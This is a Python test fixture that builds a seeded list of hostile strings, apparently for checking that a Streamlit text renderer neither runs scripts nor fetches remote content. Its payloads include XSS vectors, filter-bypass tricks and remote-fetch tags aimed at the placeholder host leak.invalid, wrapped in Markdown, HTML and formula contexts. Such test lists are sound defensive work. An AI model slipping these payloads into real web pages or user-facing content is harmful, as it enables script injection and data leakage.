"""Texts that try to do something when they are drawn: payloads x wrappers, chosen by a seed.

All of them reach for the host ``leak.invalid``, open a dialog, or set ``window.owned``.
"""

import random

SEED, COUNT = 20261121, 520
_URL = "https://leak.invalid/p"
_JS = "window.owned=1;alert(1)"

PAYLOADS = (
    # HTML that fetches
    f'<img src="{_URL}.png">', f"<img src=x onerror={_JS}>", f'<img srcset="{_URL}.png 1x">',
    f"<svg onload={_JS}></svg>", f'<svg><image href="{_URL}.svg"/></svg>',
    f'<svg><use href="{_URL}.svg#a"/></svg>', f'<svg><script href="{_URL}.js"></script></svg>',
    f'<iframe src="{_URL}"></iframe>', f'<iframe srcdoc="<script>{_JS}</script>"></iframe>',
    f'<object data="{_URL}"></object>', f'<embed src="{_URL}">', f'<video src="{_URL}" autoplay>',
    f'<video poster="{_URL}.png"></video>', f'<audio src="{_URL}" autoplay></audio>',
    f'<link rel="stylesheet" href="{_URL}.css">', f'<link rel="prefetch" href="{_URL}">',
    '<link rel="dns-prefetch" href="//leak.invalid">', f'<base href="{_URL}/">',
    f'<meta http-equiv="refresh" content="0;url={_URL}">', f'<body background="{_URL}.png">',
    f"<style>@import '{_URL}.css';</style>", f"<style>body{{background:url({_URL}.png)}}</style>",
    f'<div style="background:url({_URL}.png)">x</div>', f'<p style="list-style:url({_URL})">x</p>',
    f'<input type="image" src="{_URL}.png">', f'<source srcset="{_URL}.png">',
    f'<form action="{_URL}"><button>Go</button></form>', f'<a href="{_URL}" ping="{_URL}">x</a>',
    # Scripts
    f"<script>{_JS}</script>", f"<script src={_URL}.js></script>",
    f"<details open ontoggle={_JS}>x",
    f"<input autofocus onfocus={_JS}>", f"<marquee onstart={_JS}>x</marquee>",
    f'<a href="javascript:{_JS}">x</a>', f"<math href='javascript:{_JS}'>x</math>",
    f'"><script>{_JS}</script>', f"</div></div><script>{_JS}</script>", f"<scr<script>ipt>{_JS}",
    f'<div style="animation:x 1s" onanimationstart="{_JS}">x</div><style>@keyframes x{{}}</style>',
    f"<template><img src={_URL}.png></template>", f"<noscript><img src={_URL}.png></noscript>",
    f"<!--><img src={_URL}.png>-->", f"<![CDATA[<img src={_URL}.png>]]>",
    # Markdown
    f"![x]({_URL}.png)", f"![x]({_URL}.png \"title\")", f"[![x]({_URL}.png)]({_URL})",
    f"[x]({_URL})", f"[x](<javascript:{_JS}>)", f"[x](data:text/html,<script>{_JS}</script>)",
    f"![x](data:image/svg+xml,<svg onload={_JS}>)", f"![x][1]\n\n[1]: {_URL}.png",
    f"[x][1]\n\n[1]: {_URL} 'title'", f"[1]: {_URL}\n\n[1]", f"<{_URL}>", "<mailto:a@leak.invalid>",
    _URL, "www.leak.invalid/p", "ftp://leak.invalid/p", "a@leak.invalid", "//leak.invalid/p",
    f"x[^1]\n\n[^1]: ![x]({_URL}.png)", "# heading\n## heading", "heading\n===", "- a\n- b\n1. c",
    "- [ ] task\n- [x] task", "| a | b |\n|---|---|\n| c | d |", "> quote\n>> quote", "---\n***",
    f"```mermaid\ngraph LR; A-->B; click A \"{_URL}\"\n```", "```js\nalert(1)\n```",
    "~~~\ncode\n~~~",
    "    indented code", "\tindented code", "*a* **b** ***c*** ~~d~~ `e`", "_a_ __b__",
    "a  \nb\\\nc",
    # Streamlit's own
    ":red[x] :blue-background[x] :rainbow[x]", ":material/home: :streamlit:", ":smile: :shipping:",
    ":small[x] :badge[x]", ":red-badge[:material/check: x]", ":violet[**x**]", "-> <- -- >= <=",
    # Formulas
    "$x^2$", "$$\\frac{a}{b}$$", "$\\href{javascript:alert(1)}{x}$", "\\(x\\) \\[y\\]",
    f"$\\includegraphics{{{_URL}.png}}$", "$$\\def\\a{\\a}\\a$$", "\\begin{matrix}a\\end{matrix}",
    # Entities and escapes
    f"&lt;img src={_URL}.png&gt;", f"&#60;script&#62;{_JS}&#60;/script&#62;", "&amp;lt;b&amp;gt;",
    f"\\<img src={_URL}.png>", f"\\![x]({_URL}.png)", f"\\\\![x]({_URL}.png)", "\\`x\\` \\\\`x`",
    "![x](https&#58;//leak.invalid/p.png)", "![x](https:\\/\\/leak.invalid/p.png)",
    f"[x](java\nscript:{_JS})", f"[x](&#106;avascript:{_JS})", "[2] [3, 4] [99]",
    f"!\u200b[x]({_URL}.png)", f"<\u200bimg src={_URL}.png>", f"\u202e<img src={_URL}.png>",
    f"＜img src={_URL}.png＞", f"<img\tsrc={_URL}.png>", f"<img/src={_URL}.png>", "{{7*7}} ${7*7}",
)  # fmt: skip

WRAPPERS = (
    "{}", "Revenues rose by 4%. {} [1]", "“{}” [1]", "**{}**", "*{}*", "- {}", "1. {}", "> {}",
    "# {}", "| a | {} |\n|---|---|\n| b | {} |", "`{}`", "```\n{}\n```", "```\n```\n{}", "[{}](x)",
    "![{}](x)", ":red[{}]", "${}$", "<div>{}</div>", "</mark></div>{}", "<!-- {}", "{}\n\n{}",
    "a\n{}\nb", "    {}", "\t{}", "\\{}", "&{};", "]({}", "reports/2023 {}.pdf · page 4", "x{}",
)  # fmt: skip


def hostile_texts() -> list[str]:
    """``COUNT`` texts, the same ones every time; every payload is among them."""
    chance = random.Random(SEED)
    plain = list(PAYLOADS)
    pairs = [w.replace("{}", p) for p in PAYLOADS for w in WRAPPERS if w != "{}"]
    return plain + chance.sample(sorted(set(pairs) - set(plain)), COUNT - len(plain))
